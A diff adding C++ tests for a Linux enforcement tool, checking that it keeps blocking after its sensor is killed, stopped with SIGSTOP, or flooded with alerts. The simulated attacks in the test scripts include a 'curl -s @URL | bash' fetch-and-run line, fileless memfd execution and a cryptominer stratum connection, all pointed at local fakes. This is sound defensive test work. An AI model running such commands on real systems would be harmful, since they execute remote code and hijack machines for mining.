@@ -1,0 +1,121 @@
+// Enforcement without the sensor: killed, stopped, or drowned in its own alerts.
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+#include <signal.h>
+
+#include "chain_site.h"
+#include "support/fake_pool.h"
+
+namespace davylamp::test {
+namespace {
+
+using testing::IsEmpty;
+
+// Waits for its sensor to be gone (or stopped), attacks in every way there is, and says when it is
+// through. It ends when told to.
+std::string attacks(const ChainSite& site, const FakePool& pool)
+{
+    const std::string message = site.folder.write(
+        "login", "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5.1\"]}\n");
+    return site.fill("touch @D/inside; until [ -e @D/attack ]; do sleep 0.01; done\n"
+                     "curl -s @URL | bash\n"
+                     "curl -s @URL > @D/fetched && touch @D/network_works\n" +
+                     program("live_fileless") + " memfd " + program("live_victim") + " @D v\n" +
+                     program("live_stratum_client") + " 127.0.0.1 " + std::to_string(pool.port()) +
+                     " " + message + " one @D/result &\n" +
+                     "miner=$!; until [ -e @D/end ]; do sleep 0.01; done; kill $miner; exit 0\n");
+}
+
+void expect_refused(const ChainSite& site, const FakePool& pool)
+{
+    // The miner comes last: once its connection stands, the others are over.
+    EXPECT_TRUE(eventually([&] { return pool.connections().size() == 1; }));
+    EXPECT_TRUE(exists(site.folder / "network_works"))
+        << "the refusal is not the network's failure";
+    EXPECT_FALSE(exists(site.marker()));
+    EXPECT_FALSE(exists(site.folder / "v.ready"));
+}
+
+TEST(Survival, PinnedProgramsBlockAfterTheSensorWasKilled)
+{
+    ChainSite site;
+    FakePool pool;
+    GuardOptions options;
+    options.mode = Mode::block;
+    options.command = bash(attacks(site, pool));
+    Guard guard(options);
+    ASSERT_TRUE(eventually([&] { return exists(site.folder / "inside"); }));
+    const std::string cgroup = guard.cgroup(), pins = guard.pins();
+    guard.process().signal(SIGKILL);
+    EXPECT_EQ(guard.process().wait(), 128 + SIGKILL);
+    site.folder.write("attack", "");
+    expect_refused(site, pool);
+    EXPECT_TRUE(exists(pins));
+
+    // While its cgroup is populated, a successor leaves it alone.
+    EXPECT_EQ(run_guard(Mode::monitor, "true").exit_code, 0);
+    EXPECT_TRUE(exists(pins));
+    EXPECT_EQ(pool.bytes(), "");
+
+    site.folder.write("end", "");
+    EXPECT_TRUE(eventually(
+        [&] { return slurp(cgroup + "/cgroup.events").find("populated 0") != std::string::npos; }));
+    EXPECT_EQ(pool.bytes(), "");
+    EXPECT_EQ(run_guard(Mode::monitor, "true").exit_code, 0);
+    EXPECT_FALSE(exists(pins));
+    EXPECT_FALSE(exists(cgroup));
+}
+
+TEST(Survival, StoppedSensorBlocksOn)
+{
+    ChainSite site;
+    FakePool pool;
+    GuardOptions options;
+    options.mode = Mode::block;
+    options.command = bash(attacks(site, pool));
+    Guard guard(options);
+    ASSERT_TRUE(eventually([&] { return exists(site.folder / "inside"); }));
+    guard.process().signal(SIGSTOP);
+    site.folder.write("attack", "");
+    expect_refused(site, pool);
+    EXPECT_EQ(pool.bytes(), "");
+    site.folder.write("end", "");
+    guard.process().signal(SIGCONT);
+    GuardResult result = guard.finish();
+    EXPECT_EQ(result.exit_code, 86);
+    EXPECT_TRUE(result.first("CHAIN-001").did("refuse"));
+    result.first("EXE-001");
+    result.first("MINE-001");
+    EXPECT_EQ(pool.bytes(), "");
+}
+
+// Nobody reads the alerts: the ring (256 KiB) is full after some hundred.
+TEST(Survival, FullAlertRingStopsNoBlock)
+{
+    constexpr int kConnects = 5000;
+    ChainSite site;
+    FakePool pool;
+    GuardOptions options;
+    options.mode = Mode::block;
+    options.policy = R"({"detections": {"stratum": {"ports_refuse": true, "ports": [)" +
+                     std::to_string(pool.port()) + "]}}}";
+    options.command = bash(site.fill(
+        "touch @D/inside; until [ -e @D/attack ]; do sleep 0.01; done\n" + program("live_flood") +
+        " " + std::to_string(pool.port()) + " " + std::to_string(kConnects) +
+        " > @D/refused\ncurl -s @URL | bash\n" + program("live_fileless") + " memfd " +
+        program("live_victim") + " @D v\ntouch @D/through"));
+    Guard guard(options);
+    ASSERT_TRUE(eventually([&] { return exists(site.folder / "inside"); }));
+    guard.process().signal(SIGSTOP);
+    site.folder.write("attack", "");
+    EXPECT_TRUE(eventually([&] { return exists(site.folder / "through"); }));
+    EXPECT_EQ(slurp(site.folder / "refused"), std::to_string(kConnects) + "\n");
+    EXPECT_THAT(pool.connections(), IsEmpty());
+    EXPECT_FALSE(exists(site.marker()));
+    EXPECT_FALSE(exists(site.folder / "v.ready"));
+    guard.process().signal(SIGCONT);
+    EXPECT_EQ(guard.finish().exit_code, 86);
+}
+
+} // namespace
+} // namespace davylamp::test
